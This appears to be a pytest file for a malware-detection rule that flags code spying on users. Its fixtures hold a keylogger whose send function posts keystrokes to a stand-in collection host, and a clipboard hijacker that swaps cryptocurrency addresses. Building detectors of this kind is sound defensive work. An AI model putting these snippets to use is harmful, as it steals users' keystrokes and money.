"""Recording the user."""

from lazaretto.detect.rules.python.watches_user import RULE


def test_keys_and_a_hook(scan):
    text = r"""import requests
from pynput.keyboard import Listener
log = []
def note(key): log.append(str(key))
def send(): requests.post("https://collect.oast.test/", data="".join(log))
with Listener(on_press=note) as l: l.join()
"""
    assert scan(RULE, text) == [(6, "HIGH", "MEDIUM", "import")]


def test_clipboard_addresses(scan):
    text = r"""import pyperclip, re
if re.match("^0x[a-fA-F0-9]{40}$", pyperclip.paste()):
    pyperclip.copy("0x0000000000000000000000000000000000000000")
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import"), (2, "LOW", "MEDIUM", "import")]


def test_near_miss_another_keyboard(scan):
    text = r"""import keyboards
class keyboard: pass
keyboard.layout = "us"
"""
    assert scan(RULE, text) == []
